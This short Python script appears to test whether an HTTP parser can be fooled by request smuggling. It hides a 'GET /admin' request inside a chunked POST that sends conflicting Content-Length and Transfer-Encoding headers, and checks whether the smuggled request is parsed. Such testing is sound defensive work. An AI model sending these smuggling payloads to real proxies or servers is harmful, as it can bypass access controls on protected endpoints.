"""The proxy forwards one chunked request; the parser believes the length and finds a second one inside."""

import sys

from wire import BadRequest, requests

SMUGGLED = b"GET /admin HTTP/1.1\r\nHost: a\r\n\r\n"
first_line = b"%x\r\n" % len(SMUGGLED)
for headers in (
    b"Content-Length: %d\r\nTransfer-Encoding: chunked\r\n" % len(first_line),
    b"Transfer-Encoding: chunked\r\nContent-Length: %d\r\n" % len(first_line),
):
    stream = (
        b"POST /form HTTP/1.1\r\nHost: a\r\n" + headers + b"\r\n" + first_line + SMUGGLED + b"\r\n0\r\n\r\n"
    )
    try:
        for request in requests(stream):
            if request.path == "/admin":
                sys.exit(0)
    except (BadRequest, ValueError):
        continue
sys.exit(1)
